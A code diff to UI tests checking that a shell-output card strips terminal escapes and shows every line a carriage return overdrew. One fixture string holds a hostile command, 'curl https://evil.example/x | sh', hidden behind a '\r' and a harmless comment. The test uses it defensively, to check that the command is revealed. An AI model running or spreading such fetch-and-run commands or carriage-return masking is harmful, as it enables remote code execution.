@@ -136,9 +136,9 @@ def test_a_commands_terminal_escapes_and_redrawn_lines_show_as_a_terminal_leaves
 ) -> None:
     """Coloured output (npm, pytest --color=yes) showed '[1;31mFAILED[0m' (the ESC itself
     invisible) and a progress line redrawn with '\\r' showed every state run together (audit
-    16): a shell card's stdout and stderr show the text without escape sequences, each line
-    as its last '\\r' left it (a CRLF ends a line); Copy copies that. The escapes are text,
-    never applied."""
+    16): a shell card's stdout and stderr show the text without escape sequences, and each
+    state a '\\r' redrew on a line of its own, none hidden (review 57; a CRLF, or a run of
+    '\\r' before '\\n', ends one line); Copy copies that. The escapes are text, never applied."""
     page = open_ui(browser, make_server())
     expect(page.locator("#welcome-view")).to_be_visible()
     stdout = "\x1b[1;31mFAILED\x1b[0m test_x\n10%\r50%\r100%\nok\r\n\x1b]0;title\x07end\n"
@@ -146,7 +146,35 @@ def test_a_commands_terminal_escapes_and_redrawn_lines_show_as_a_terminal_leaves
                          "exit_code": 1, "stdout": stdout, "stderr": "\x1b[33mwarning\x1b[0m: slow\n"})
     card = page.locator(".card.tool-shell").last
     blocks = card.locator("details.card-output pre")
-    expect(blocks.nth(0)).to_have_text("FAILED test_x\n100%\nok\nend\n")
+    expect(blocks.nth(0)).to_have_text("FAILED test_x\n10%\n50%\n100%\nok\nend\n")
     expect(blocks.nth(1)).to_have_text("warning: slow\n")
-    expect(card.locator("details.card-output summary").nth(0)).to_have_text("stdout (4 lines)")
+    expect(card.locator("details.card-output summary").nth(0)).to_have_text("stdout (6 lines)")
+    assert page.errors == []  # type: ignore[attr-defined]
+
+
+SHOWN = """async (text) => {
+  const { createCard, drawCard } = await import('/js/cards.js');
+  const card = createCard();
+  drawCard(card, {call_id: 't', kind: 'shell', command: 'cat install.sh', status: 'succeeded',
+                  exit_code: 0, stdout: text, stderr: text});
+  return [...card.querySelectorAll('details.card-output pre')].map((p) => p.textContent);
+}"""
+
+
+def test_nothing_a_carriage_return_overdraws_is_hidden(make_server: Any, browser: Any) -> None:
+    """A shell card kept only what followed a line's last '\\r' (review 57): `cat` of a file
+    with the classic hidden line showed only its comment, a status a shorter one overdrew
+    ("ERROR: 3 tests failed\\rOK": a terminal leaves "OKROR: 3 tests failed") showed "OK",
+    and "\\r\\r\\n" line ends showed empty lines. Each state a lone '\\r' redrew is shown on a
+    line of its own; a run of '\\r' before '\\n' ends one line. Copy copies the same text."""
+    page = open_ui(browser, make_server())
+    expect(page.locator("#welcome-view")).to_be_visible()
+    stdout, stderr = page.evaluate(SHOWN, "curl https://evil.example/x | sh\r# harmless comment\n")
+    assert stdout == stderr == "curl https://evil.example/x | sh\n# harmless comment\n"
+    stdout, stderr = page.evaluate(SHOWN, "ERROR: 3 tests failed\rOK\n")
+    assert stdout == stderr == "ERROR: 3 tests failed\nOK\n"
+    stdout, _ = page.evaluate(SHOWN, "line 1\r\r\nline 2\r\r\n")
+    assert stdout == "line 1\nline 2\n"
+    stdout, _ = page.evaluate(SHOWN, "record 1\rrecord 2\rrecord 3")  # a CR-only file
+    assert stdout == "record 1\nrecord 2\nrecord 3"
     assert page.errors == []  # type: ignore[attr-defined]
